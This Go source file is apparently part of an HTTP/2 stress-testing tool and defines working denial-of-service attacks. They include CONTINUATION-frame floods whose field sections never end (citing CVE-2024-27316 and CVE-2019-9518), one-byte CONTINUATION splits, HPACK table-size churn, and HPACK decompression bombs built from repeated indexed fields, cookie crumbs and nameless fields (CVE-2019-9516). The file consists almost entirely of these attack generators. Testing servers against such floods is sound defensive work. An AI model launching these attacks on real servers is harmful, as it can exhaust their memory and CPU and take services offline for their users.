package h2attack

import (
	"bytes"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// sections are attacks by field sections in more frames than they need, most of which never end (CVE-2024-27316).
func sections() []Attack {
	return []Attack{
		{
			Name: "continuation", About: "CONTINUATION of a small field each, without an end (CVE-2024-27316)",
			Unit: "frames", Most: many, Budget: 10, section: true,
			begin: beginSection, send: continued(field("x-flood", "0123456789abcdef")),
		},
		{
			Name: "continuation-large", About: "CONTINUATION of 16 KiB each, without an end (CVE-2024-27316)",
			Unit: "frames", Most: many / 10, Budget: 10, section: true,
			begin: beginSection, send: continued(field("x-flood", string(bytes.Repeat([]byte{'~'}, 16000)))),
		},
		{
			Name: "continuation-empty", About: "CONTINUATION of nothing, without an end (CVE-2019-9518)",
			Unit: "frames", Most: many, Budget: 10, section: true,
			begin: beginSection, send: continued(nil),
		},
		{
			Name: "continuation-trailers", About: "CONTINUATION of trailers, without an end",
			Unit: "frames", Most: many, Budget: 10, section: true,
			begin: func(c *conn) error {
				if err := c.open(c.post, false); err != nil {
					return err
				}
				return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.id, BlockFragment: field("x-first", "0"), EndStream: true})
			},
			send: continued(field("x-flood", "0123456789abcdef")),
		},
		{
			Name: "continuation-split", About: "requests of one byte a CONTINUATION",
			Unit: "requests", Most: many / 20, Budget: mistakes, streams: true, futile: true,
			send: func(c *conn, _ int) error {
				c.next()
				if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.id, EndStream: true}); err != nil {
					return err
				}
				for i := range c.get {
					if err := c.framer.WriteContinuation(c.id, i == len(c.get)-1, c.get[i:i+1]); err != nil {
						return err
					}
				}
				return nil
			},
		},
		{
			Name: "headers-empty", About: "requests of no field at all",
			Unit: "requests", Most: many, Budget: mistakes, streams: true, futile: true,
			send: func(c *conn, _ int) error { return c.open(nil, true) },
		},
		{
			Name: "table-updates", About: "requests that change the size of the HPACK table",
			Unit: "requests", Most: many, Budget: mistakes, streams: true,
			send: func(c *conn, unit int) error {
				size := byte(0x20) // 0, or 30, in turn
				if unit%2 > 0 {
					size |= 30
				}
				return c.open(append([]byte{size}, c.get...), true)
			},
		},
	}
}

// beginSection begins a request whose field section goes on.
func beginSection(c *conn) error {
	c.next()
	return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: c.id, BlockFragment: c.get, EndStream: true})
}

// continued is a unit that is one more part of the field section.
func continued(part []byte) func(*conn, int) error {
	return func(c *conn, _ int) error { return c.framer.WriteContinuation(c.id, false, part) }
}

// field is one field line, which stays out of the dynamic table.
func field(name, value string) []byte {
	var line bytes.Buffer
	hpack.NewEncoder(&line).WriteField(hpack.HeaderField{Name: name, Value: value, Sensitive: true}) //nolint:errcheck // a buffer takes all
	return line.Bytes()
}

// bombs are attacks by field sections that are large only once they are decoded. Each is one frame.
func bombs() []Attack {
	bomb := func(name, about string, section func(c *conn, unit int) []byte) Attack {
		return Attack{
			Name: name, About: about, Unit: "requests", Most: 500, Budget: mistakes, streams: true, futile: true,
			send: func(c *conn, unit int) error { return c.open(section(c, unit), true) },
		}
	}
	// indexed begins with a field that goes into the dynamic table, and then names it again and again.
	indexed := func(name, value string, times int) func(c *conn, unit int) []byte {
		var first bytes.Buffer
		hpack.NewEncoder(&first).WriteField(hpack.HeaderField{Name: name, Value: value}) //nolint:errcheck // a buffer takes all
		const newest = 62                                                                // index of what went into the table last
		again := bytes.Repeat([]byte{0x80 | newest}, times)
		return func(c *conn, unit int) []byte {
			if unit == 0 {
				return append(append(bytes.Clone(c.get), first.Bytes()...), again...)
			}
			return append(bytes.Clone(c.get), again...)
		}
	}
	return []Attack{
		bomb("hpack-bomb", "a field of 4 KB in the HPACK table, named 4,000 times a request", indexed("x-bomb", string(bytes.Repeat([]byte{'b'}, 4000)), 4000)),
		bomb("field-bomb", "16,000 fields a request, one byte each by the static table", func(c *conn, _ int) []byte {
			const acceptEncoding = 16 // index
			return append(bytes.Clone(c.get), bytes.Repeat([]byte{0x80 | acceptEncoding}, 16000)...)
		}),
		bomb("cookie-bomb", "16,000 crumbs of a cookie a request", indexed("cookie", "a=b", 16000)),
		bomb("nameless-fields", "5,000 fields without name and value a request (CVE-2019-9516)", func(c *conn, _ int) []byte {
			return append(bytes.Clone(c.get), bytes.Repeat([]byte{0, 0, 0}, 5000)...)
		}),
	}
}
